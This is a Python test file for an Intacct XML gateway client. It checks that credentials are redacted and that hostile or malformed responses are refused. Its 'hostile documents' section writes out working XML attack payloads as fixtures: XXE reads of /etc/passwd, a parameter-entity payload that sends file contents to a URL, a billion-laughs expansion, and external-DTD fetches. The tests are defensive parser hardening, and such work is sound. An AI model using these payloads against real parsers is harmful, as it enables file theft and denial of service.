            p.inspect(),
            p.get_dimensions(),
            p.get_api_session(),
            p.read_more("r"),
        )
    )
    assert not p.Function("create", etree.Element("create")).read_only


# --- redaction -----------------------------------------------------------------------------------


def test_redact_removes_passwords_and_session_ids() -> None:
    body = build(
        functions=[p.get_api_session()],
        auth=p.Login(user_id="ws_user", company_id="ACME", password="user-pass-1"),
    )
    text = p.redact(body)
    assert "sender-pass-1" not in text
    assert "user-pass-1" not in text
    assert text.count("REDACTED") == 2
    assert "ws_user" in text  # the rest is untouched
    assert "our_sender" in text

    session_body = build(auth=p.SessionAuth(session_id="4dfZhgdAZ3jR-tyznJZ_UUbCeND_3A.."))
    redacted = p.redact(session_body)
    assert "4dfZhgdAZ3jR" not in redacted
    assert "<sessionid>REDACTED</sessionid>" in redacted

    response = p.redact(fixture("get_api_session.xml").decode())
    assert "4dfZhgdAZ3jR" not in response
    assert "https://api.intacct.com/ia/xml/xmlgw.phtml" in response


def test_redact_handles_case_attributes_newlines_and_empty_elements() -> None:
    text = p.redact(
        b'<a><PASSWORD type="x">one\ntwo</PASSWORD><password/><SessionId>s..</SessionId>'
        b"<userpassword>kept</userpassword></a>"
    )
    for secret in ("one", "two", "s.."):
        assert secret not in text
    assert '<PASSWORD type="x">REDACTED</PASSWORD>' in text
    assert "<password/>" in text
    assert "<userpassword>kept</userpassword>" in text


XML_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sender_password=XML_TEXT, user_password=XML_TEXT, session_id=XML_TEXT)
def test_redact_never_leaks_a_password_or_session_id(
    sender_password: str, user_password: str, session_id: str
) -> None:
    marker_sender = "Snd\u2603" + sender_password
    marker_user = "Usr\u2603" + user_password
    for auth in (
        p.Login(user_id="ws_user", company_id="ACME", password=marker_user),
        p.SessionAuth(session_id="Ses\u2603" + session_id),
    ):
        body = p.build_request(
            sender_id="our_sender",
            sender_password=marker_sender,
            auth=auth,
            functions=[p.get_dimensions(controlid="f")],
            control_id="c",
        )
        text = p.redact(body)
        assert "\u2603" not in text
        root = etree.fromstring(text.encode("utf-8"))
        secrets = root.findall(".//password") + root.findall(".//sessionid")
        assert secrets
        assert all(el.text == "REDACTED" for el in secrets)
        assert root.findtext("control/senderid") == "our_sender"


# --- hostile documents ---------------------------------------------------------------------------

XXE_FILE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<response><control><status>success</status></control><operation><authentication>"
    b"<status>success</status><userid>&xxe;</userid><companyid>c</companyid></authentication>"
    b"<result><status>success</status><function>readByQuery</function><controlid>f</controlid>"
    b'<data listtype="vendor" count="1"><vendor><NAME>&xxe;</NAME></vendor></data></result>'
    b"</operation></response>"
)

XXE_NETWORK = XXE_FILE.replace(b"file:///etc/passwd", b"http://127.0.0.1:9/evil.dtd")

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE response [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>\n<response><control><status>&lol9;</status></control></response>"
)

PARAMETER_ENTITIES = (
    b'<?xml version="1.0"?>\n<!DOCTYPE response [\n'
    b'  <!ENTITY % file SYSTEM "file:///etc/passwd">\n'
    b"  <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>\">\n"
    b"  %eval;\n  %exfil;\n]>\n"
    b"<response><control><status>success</status></control></response>"
)

EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n<!DOCTYPE response SYSTEM "http://127.0.0.1:9/response.dtd">\n'
    b"<response><control><status>success</status></control></response>"
)


def _refused(body: bytes, **kwargs: int) -> ProtocolError:
    started = time.perf_counter()
    with pytest.raises(ProtocolError) as info:
        p.parse_response(body, **kwargs)
    assert time.perf_counter() - started < FAST
    assert "root:" not in str(info.value)
    return info.value


@pytest.mark.parametrize(
    "body",
    [XXE_FILE, XXE_NETWORK, BILLION_LAUGHS, PARAMETER_ENTITIES, EXTERNAL_DTD],
    ids=["xxe-file", "xxe-network", "billion-laughs", "parameter-entities", "external-dtd"],
)
def test_documents_with_a_dtd_are_refused_quickly(body: bytes) -> None:
    _refused(body)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_a_dtd_is_refused_whatever_the_encoding(encoding: str) -> None:
    """The byte check for ``<!DOCTYPE`` cannot see a UTF-16 or UTF-32 document; the parsed tree's
    doctype must be checked as well."""
    declared = XXE_FILE.replace(b'encoding="UTF-8"', b'encoding="%s"' % encoding.upper().encode())
    _refused(declared.decode("ascii").encode(encoding))


def test_oversized_body_is_refused_before_parsing() -> None:
    body = fixture("readbyquery_project_and_read.xml")
    assert p.parse_response(body, max_bytes=len(body)).results
    err = _refused(body, max_bytes=len(body) - 1)
    assert "limit" in str(err)
    # Larger than the default cap, without allocating 64 MB of XML.
    assert p.MAX_RESPONSE_BYTES >= 8 * 1024 * 1024


def test_deep_nesting_is_refused_or_parsed_without_recursion_errors() -> None:
    depth = 5000
    body = envelope(
        b"<result><status>success</status><function>read</function><controlid>f</controlid>"
        b'<data listtype="X" count="1"><X>'
        + b"<a>" * depth
        + b"v"
        + b"</a>" * depth
        + b"</X></data></result>"
    )
    started = time.perf_counter()
    with contextlib.suppress(ProtocolError):
        p.parse_response(body)
    assert time.perf_counter() - started < FAST


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   \n",
        b"502 Bad Gateway",
        b'{"error": "Service Unavailable"}',
        b"<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>",
        b"<response><control><status>success</status>",  # truncated
        b"\xff\xfe\x00\x00garbage",
        b"<response>&undefined;</response>",
    ],
    ids=["empty", "blank", "text", "json", "html", "truncated", "binary", "undefined-entity"],
)
def test_non_gateway_bodies_are_protocol_errors(body: bytes) -> None:
    _refused(body)


@pytest.mark.parametrize(
    "body",
    [
        b"<request><control><status>success</status></control></request>",
        b"<root><response><control><status>success</status></control></response></root>",
    ],
    ids=["request-root", "wrapped"],
)
def test_a_root_other_than_response_is_refused(body: bytes) -> None:
    assert "response" in str(_refused(body))


@pytest.mark.parametrize(
    "body",
    [
        b"<response/>",
        b"<response><control/></response>",
        b"<response><control><status></status></control></response>",
        b"<response><control><senderid>s</senderid></control><operation/></response>",
        b"<response><status>success</status></response>",
    ],
    ids=["empty", "empty-control", "blank-status", "no-status", "status-outside-control"],
)
def test_a_response_without_control_status_is_refused(body: bytes) -> None:
    _refused(body)


def test_a_capture_trimmed_to_an_empty_control_is_refused() -> None:
    """PsIntacct's Get-Dimension fixture keeps ``<control/>`` and ``<authentication/>`` empty."""
    body = fixture("get_dimensions.xml")
    start, end = body.index(b"<control>"), body.index(b"</control>") + len(b"</control>")
    _refused(body[:start] + b"<control/>" + body[end:])


MUTATION_SOURCES = [
    fixture(name)
    for name in (
        "readbyquery_project_and_read.xml",
        "auth_sender_not_authorized.xml",
        "legacy_get_list_class.xml",
        "result_transaction_aborted.xml",
    )
]


@st.composite
def mutated_documents(draw: st.DrawFn) -> bytes:
    body = bytearray(draw(st.sampled_from(MUTATION_SOURCES)))
    for _ in range(draw(st.integers(min_value=1, max_value=6))):
        kind = draw(st.sampled_from(["cut", "insert", "flip", "truncate"]))
        at = draw(st.integers(min_value=0, max_value=len(body)))
        if kind == "cut":
            del body[at : at + draw(st.integers(min_value=1, max_value=40))]
        elif kind == "insert":
            body[at:at] = draw(
                st.sampled_from(
                    [b"<", b">", b"&", b"&#0;", b"]]>", b"<x>", b"</x>", b'"', b"\x00", b"\xff"]
                )
                | st.binary(max_size=8)
            )
        elif kind == "flip" and at < len(body):
            body[at] = draw(st.integers(min_value=0, max_value=255))
        else:
            del body[at:]
    return bytes(body)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=st.binary(max_size=300) | mutated_documents())
def test_parse_response_raises_nothing_but_protocol_error(body: bytes) -> None:
    try:
        response = p.parse_response(body)
    except ProtocolError:
        return
    # Whatever parsed must be usable without surprises.
    assert response.control.status
    _ = response.level
    raised: Exception | None = None
    try:
        response.raise_for_status()
    except (ProtocolError, GatewayError) as exc:  # anything else fails the test
        raised = exc
    if isinstance(raised, GatewayError):
        assert raised.level in ("control", "authentication")
    for result in response.results:
        err = result.error()
        assert (err is None) == result.ok
        assert err is None or err.level == "result"


def test_a_dtd_quoted_inside_cdata_or_a_comment_is_text_not_a_dtd() -> None:
    """A record's text may quote HTML; only a declaration outside CDATA and comments is one."""
    body = XXE_FILE.split(b"<!DOCTYPE")[0] + (
        b"<response><control><status>success</status></control><operation><authentication>"
        b"<status>success</status><userid>u</userid><companyid>c</companyid></authentication>"
        b"<result><status>success</status><function>query</function><controlid>f</controlid>"
        b'<data listtype="VENDOR" count="1" totalcount="1" numremaining="0"><VENDOR>'
        b"<NOTES><![CDATA[<!DOCTYPE html><p>Pay by <b>wire</b></p>]]></NOTES>"
        b"<!-- <!ENTITY x 'y'> --></VENDOR></data></result></operation></response>"
    )
    [result] = p.parse_response(body).results
    assert result.records == [{"NOTES": "<!DOCTYPE html><p>Pay by <b>wire</b></p>"}]
    # A declaration after such a section is still refused, and an unterminated one hides none.
    _refused(body.replace(b"<response>", b"<![CDATA[x]]><!DOCTYPE r><response>"))
    _refused(body.replace(b"]]></NOTES>", b"</NOTES><!DOCTYPE r>"))


def test_a_dtd_behind_a_processing_instruction_is_refused_and_the_scan_stays_linear() -> None:
    """A comment opened inside a processing instruction hides nothing; and a body of a million
    unterminated CDATA openers is scanned once, not once per opener."""
    _refused(b"<?x <!-- ?><!DOCTYPE r [<!ENTITY a 'b'>]><response>&a;</response>-->")
    _refused(b"<![CDATA[" * 1_000_000 + b"<!DOCTYPE r>")
    _refused(b"<!--" * 1_000_000 + b"<!DOCTYPE r>")
